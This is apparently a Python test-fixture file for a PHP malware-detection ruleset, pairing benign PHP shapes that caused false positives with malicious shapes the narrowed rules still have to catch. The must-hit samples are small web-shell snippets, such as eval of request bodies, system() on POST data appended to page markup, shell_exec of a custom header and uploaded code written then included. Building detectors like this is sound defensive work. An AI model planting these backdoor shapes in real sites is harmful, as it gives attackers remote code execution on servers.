"""Must-hit / near-miss samples for the rules narrowed after false positives on more legitimate PHP
(issue 4t: Debian bookworm packages not yet gated, plus PHP shipped inside npm packages).

Small synthetic PHP written for the tests, no corpus and no package excerpts. Each near-miss is
the legitimate shape that fired (the package is named in the comment); each must-hit is the
malicious shape the narrowed rule still has to catch.
"""

from __future__ import annotations


def php(body: str) -> bytes:
    return ("<?php\n" + body + "\n").encode()


#: ~3.5 KB of neutral admin-page PHP, so the mid-sized rules (3 KB to 30 KB) apply.
_ADMIN_PAD = "".join(
    f"function list_option_{i}($name, $label) {{\n"
    f"    global $tpl;\n"
    f"    $tpl->assign(array('NAME{i}' => htmlentities($name), 'LABEL{i}' => $label));\n}}\n\n"
    for i in range(30)
)

# arcanist (phage agent): a CLI bootstrap evals the second stage its parent pipes on stdin.
STDIN_BOOTSTRAP = php(
    "/**\n * First stage of the agent: `php -r` takes a short program, so it reads the second stage,\n"
    " * which can read any length, from the pipe its parent writes to; the second stage then reads\n"
    " * and runs the agent itself. Nothing here is reachable from a web request.\n */\n"
    "function agent_boot_command($stage2) {\n"
    "  $len = strlen($stage2);\n"
    "$boot = \"eval(fread(\\$I=fopen('php://stdin', 'r'), {$len}));\";\n"
    "  return array('php', '-r', $boot);\n}"
)
STDIN_REPL = php("if (PHP_SAPI !== 'cli') { exit(1); }\nwhile (true) { echo '> '; eval(fgets(STDIN)); }")
STDIN_AND_BODY = php(
    "if (PHP_SAPI === 'cli') { eval(fgets(STDIN)); }\n"
    "else { $h = fopen('php://input', 'r'); eval(stream_get_contents($h)); }"
)
BODY_STREAM = php("$h = @fopen('php://input', 'rb');\n@eval(fread($h, 1 << 20));")

# mlmmj-php-web-admin: the list settings page evals a tunables file shipped in the config dir.
TUNABLES_EVAL = php(
    _ADMIN_PAD + "$list = $_POST['list'];\n"
    "if (!is_dir($topdir . '/' . $list)) { die('no such list'); }\n"
    "$tunables = file_get_contents($confdir . '/tunables.pl');\neval($tunables);\n"
    "$tpl->parse('MAIN', 'main');"
)
TUNABLES_AND_BODY = php(
    _ADMIN_PAD + "$list = $_POST['list'];\n"
    "$tunables = file_get_contents($confdir . '/tunables.pl');\neval($tunables);\n"
    "$code = $_POST['code'];\neval($code);"
)
FILE_OF_INPUT_EVAL = php(_ADMIN_PAD + "$src = file_get_contents($_POST['f']);\neval($src);")

# zoneminder: request values quoted with escapeshellarg() into a fixed command line.
ESCAPED_CMD = php(
    "if (!canView('Control')) return;\n"
    "$monitor = Monitor::find_one(array('Id' => $_REQUEST['mid']));\n"
    "$cmd = getZmuCommand(' -m ' . escapeshellarg($_REQUEST['mid']) . ' -B -C -H -O');\n"
    "$out = exec($cmd);\n"
    "if ($out) { list($b, $c) = explode(' ', $out); $monitor->Brightness($b); }"
)
ESCAPED_AND_EVAL = php(
    "$cmd = 'zmu -m ' . escapeshellarg($_REQUEST['mid']);\n$out = exec($cmd);\n$c = $_POST['c'];\neval($c);"
)
# Quoting the WHOLE command with escapeshellarg() still runs it (a one-word command such as `id`).
QUOTED_WHOLE_CMD = php(
    "function run($c) {\n  $out = '';\n  $p = @popen($c, 'r');\n"
    "  while (!@feof($p)) $out .= fread($p, 512);\n"
    "  return $out;\n}\necho run(escapeshellarg($_POST['q']));"
)
UNESCAPED_CMD = php("$cmd = $_REQUEST['mid'];\n$out = exec($cmd);\necho $out;")

#: ~2.5 KB of neutral page markup around the zoneminder-like modal block.
_MODAL_HTML = '<div class="modal">\n' + '<p class="row">Setting</p>\n' * 90 + "</div>\n"
ESCAPED_BLOCK = (
    "<?php\nif (!canView('Control')) return;\n"
    "$cmd = getZmuCommand(' -m ' . escapeshellarg($_REQUEST['mid']) . ' -B -C -H -O');\n"
    "$out = exec($cmd);\n?>\n" + _MODAL_HTML
).encode()
ESCAPED_BLOCK_PLANTED = (
    "<?php\nif (!canView('Control')) return;\n"
    "$cmd = getZmuCommand(' -m ' . escapeshellarg($_REQUEST['mid']) . ' -B -C -H -O');\n"
    "$out = exec($cmd);\n?>\n" + _MODAL_HTML + "<?php $c = $_POST['c']; system($c); ?>\n"
).encode()
ESCAPED_BLOCK_EVAL = (
    _MODAL_HTML + "<?php $x = escapeshellarg($_GET['d']); $c = $_POST['c']; eval($c); ?>\n"
).encode()

# A network tool (customer admin pages): ping runs only after filter_var(FILTER_VALIDATE_IP) passed.
VALIDATED_PING = php(
    "$host = isset($_GET['host']) ? $_GET['host'] : '';\n"
    "if ($host !== '' && filter_var($host, FILTER_VALIDATE_IP)) {\n"
    "  $cmd = 'ping -c 3 ' . $host;\n  $out = shell_exec($cmd);\n"
    "  echo '<pre>' . htmlspecialchars($out) . '</pre>';\n}"
)
VALIDATED_AND_EVAL = php("$ok = filter_var($_GET['ip'], FILTER_VALIDATE_IP);\n$c = $_POST['c'];\nassert($c);")

# A flat-file notes / JSON store: the request-named path ends in a fixed data extension.
NOTES_STORE = php(
    "session_start();\nif (empty($_SESSION['user'])) { exit; }\n"
    "$file = __DIR__ . '/notes/' . $_POST['id'] . '.txt';\n$body = $_POST['body'];\n"
    "file_put_contents($file, $body);\necho 'saved';"
)
NOTES_ANY_NAME = php(
    "$file = __DIR__ . '/notes/' . $_POST['id'];\n$body = $_POST['body'];\n"
    "file_put_contents($file, $body);\necho 'saved';"
)
NOTES_PHP_EXT = php(
    "$file = __DIR__ . '/' . $_POST['id'] . '.php';\n$body = $_POST['body'];\n"
    "file_put_contents($file, $body);\necho 'saved';"
)
DRAFT_TXT = php(
    "$id = $_POST['id'];\n$text = $_POST['text'];\n$file = \"drafts/$id.txt\";\n"
    "$fp = fopen($file, 'w');\nfwrite($fp, $text);\nfclose($fp);"
)
DRAFT_ANY = php(
    "$id = $_POST['id'];\n$text = $_POST['text'];\n$file = \"drafts/$id\";\n"
    "$fp = fopen($file, 'w');\nfwrite($fp, $text);\nfclose($fp);"
)

# A template editor: requires its auth file at the top, then saves an allow-listed template.
AUTH_THEN_SAVE = php(
    "require 'admin_auth.php';\n$dir = __DIR__ . '/themes/default/';\n$tpl = $_GET['tpl'];\n"
    "if (!in_array($tpl, array('header.html', 'footer.html'))) { exit; }\n"
    "if (isset($_POST['code'])) { file_put_contents($dir . $tpl, $_POST['code']); }"
)
SAVE_THEN_INCLUDE = php(
    "require 'admin_auth.php';\nfile_put_contents('cache.php', $_POST['code']);\ninclude 'cache.php';"
)
DECODED_SAVE_THEN_INCLUDE = php(
    "$c = base64_decode($_POST['c']);\nfile_put_contents('/tmp/x', $c);\ninclude '/tmp/x';"
)

# A signed deploy webhook: X-Hub-Signature checked with hash_hmac + hash_equals, then git pull.
DEPLOY_HOOK = php(
    "$secret = 'changeme';\n"
    "$sig = isset($_SERVER['HTTP_X_HUB_SIGNATURE_256']) ? $_SERVER['HTTP_X_HUB_SIGNATURE_256'] : '';\n"
    "$payload = file_get_contents('php://input');\n"
    "if (!hash_equals('sha256=' . hash_hmac('sha256', $payload, $secret), $sig)) { exit; }\n"
    "$cmd = 'cd /var/www/site && git pull 2>&1';\n$output = shell_exec($cmd);\necho $output;"
)
HOOK_THEN_EVAL = php(
    "$sig = $_SERVER['HTTP_X_HUB_SIGNATURE'];\n$body = file_get_contents('php://input');\n"
    "if (hash_equals(hash_hmac('sha1', $body, 'k'), $sig)) { eval($body); }"
)
HEADER_CMD = php("$c = $_SERVER['HTTP_X_CMD'];\n$out = shell_exec($c);\necho $out;")

CASES: list[tuple[str, bytes, bool]] = [
    ("SPAMGEAR_EVASION_EvalOfStoredOrStreamed", STDIN_BOOTSTRAP, False),
    ("SPAMGEAR_EVASION_EvalOfStoredOrStreamed", STDIN_REPL, False),
    ("SPAMGEAR_EVASION_EvalOfStoredOrStreamed", STDIN_AND_BODY, True),
    ("SPAMGEAR_EVASION_EvalOfStoredOrStreamed", BODY_STREAM, True),
    ("SPAMGEAR_INPUT_MidInputAndSink", TUNABLES_EVAL, False),
    ("SPAMGEAR_INPUT_MidInputAndSink", TUNABLES_AND_BODY, True),
    ("SPAMGEAR_INPUT_MidInputAndSink", FILE_OF_INPUT_EVAL, True),
    ("SPAMGEAR_INPUT_SmallInputAndSink", ESCAPED_CMD, False),
    ("SPAMGEAR_INPUT_SmallInputAndSink", ESCAPED_AND_EVAL, True),
    ("SPAMGEAR_INPUT_SmallInputAndSink", UNESCAPED_CMD, True),
    ("SPAMGEAR_INPUT_SmallInputAndSink", QUOTED_WHOLE_CMD, True),
    ("SPAMGEAR_INJECTED_SmallBlockInputToSink", ESCAPED_BLOCK, False),
    ("SPAMGEAR_INJECTED_SmallBlockInputToSink", ESCAPED_BLOCK_PLANTED, True),
    ("SPAMGEAR_INJECTED_SmallBlockInputToSink", ESCAPED_BLOCK_EVAL, True),
    ("SPAMGEAR_INPUT_SmallInputAndSink", VALIDATED_PING, False),
    ("SPAMGEAR_INPUT_SmallInputAndSink", VALIDATED_AND_EVAL, True),
    ("SPAMGEAR_DROPPER_RequestPathAndBodyWrite", NOTES_STORE, False),
    ("SPAMGEAR_DROPPER_RequestPathAndBodyWrite", NOTES_ANY_NAME, True),
    ("SPAMGEAR_DROPPER_RequestPathAndBodyWrite", NOTES_PHP_EXT, True),
    ("SPAMGEAR_TINY_InputVarsPathAndBodyWrite", DRAFT_TXT, False),
    ("SPAMGEAR_TINY_InputVarsPathAndBodyWrite", DRAFT_ANY, True),
    ("SPAMGEAR_TINY_WrittenInputIncluded", AUTH_THEN_SAVE, False),
    ("SPAMGEAR_TINY_WrittenInputIncluded", SAVE_THEN_INCLUDE, True),
    ("SPAMGEAR_TINY_WrittenInputIncluded", DECODED_SAVE_THEN_INCLUDE, True),
    ("SPAMGEAR_EVASION_HeaderToSinkTiny", DEPLOY_HOOK, False),
    ("SPAMGEAR_EVASION_HeaderToSinkTiny", HOOK_THEN_EVAL, True),
    ("SPAMGEAR_EVASION_HeaderToSinkTiny", HEADER_CMD, True),
    ("SPAMGEAR_EVASION_CustomHeaderToSinkNear", DEPLOY_HOOK, False),
    ("SPAMGEAR_EVASION_CustomHeaderToSinkNear", HEADER_CMD, True),
    ("SPAMGEAR_INPUT_SmallInputAndSink", DEPLOY_HOOK, False),
    ("SPAMGEAR_INPUT_SmallInputAndSink", HOOK_THEN_EVAL, True),
]
